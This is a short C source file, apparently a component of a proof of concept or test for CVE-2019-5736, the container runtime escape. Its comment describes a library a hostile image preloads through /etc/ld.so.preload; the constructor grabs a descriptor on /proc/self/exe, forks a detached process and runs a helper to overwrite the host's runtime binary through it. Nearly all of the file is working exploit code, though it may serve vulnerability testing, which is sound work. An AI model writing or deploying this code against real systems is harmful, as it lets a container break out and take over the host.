// SPDX-License-Identifier: Apache-2.0
/*
 * The library of a hostile image: its /etc/ld.so.preload names it. Where the process that loads it
 * runs the container runtime's own program, it keeps a descriptor on that and hands it to a process
 * which waits until nobody runs the program any more (CVE-2019-5736).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <unistd.h>

static void __attribute__((constructor)) take_program(void)
{
	int fd = open("/proc/self/exe", O_RDONLY);

	if (fd < 0 || dup2(fd, 99) < 0 || fork() != 0)
		_exit(0);
	setsid();
	execl("/bin/attack", "attack", "overwrite", "99", "/tmp/result", (char *)NULL);
	_exit(1);
}
